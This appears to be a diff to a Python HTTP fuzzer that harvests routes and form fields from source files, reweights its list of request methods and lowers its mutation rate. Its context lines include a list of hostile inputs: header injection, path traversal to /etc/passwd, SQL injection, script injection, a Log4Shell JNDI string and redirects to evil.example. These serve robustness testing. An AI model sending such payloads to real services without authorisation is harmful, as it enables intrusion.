@@ -35,7 +35,7 @@ SOURCES = read_sources()
 ROUTES = sorted(set(re.findall(r'Route\(\s*\.(?:get|post|put|patch|delete),\s*"(/[^"]*)"', SOURCES)))
 FIELDS = sorted(set(re.findall(r'FormField\(\s*"([a-z_]+)"', SOURCES) + re.findall(r'static let [a-zA-Z]+ = "([a-z_]+)"', SOURCES)
                     + re.findall(r'data\["([a-z_]+)"\]', SOURCES) + ["token", "form_token", "address", "email", "session", "next", "lang"]))
-METHODS = ["GET", "GET", "GET", "HEAD", "POST", "POST", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "get", "X" * 40, "", "PRI"]
+METHODS = [*["GET"] * 8, *["POST"] * 14, "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "get", "X" * 40, "", "PRI"]
 HOSTILE = [
     "", " ", "\0", "\r\nSet-Cookie: a=b", "%", "%zz", "%00", "%c0%af", "../../../etc/passwd", "..%2f..%2f", "//evil.example", "\\\\evil.example",
     "' OR 1=1 --", "\"><script>alert(1)</script>", "{{t.saved}}", "${jndi:ldap://evil.example}", "a" * 300, "é" * 200, "\u202e", "\ufeff",
@@ -91,7 +91,7 @@ class Worker:
 
     def request(self):
         data = self.well_formed()
-        if self.random.random() < 0.4:
+        if self.random.random() < 0.25:
             data = self.mutated(data)
         if self.random.random() < 0.05:
             data = data + self.well_formed()
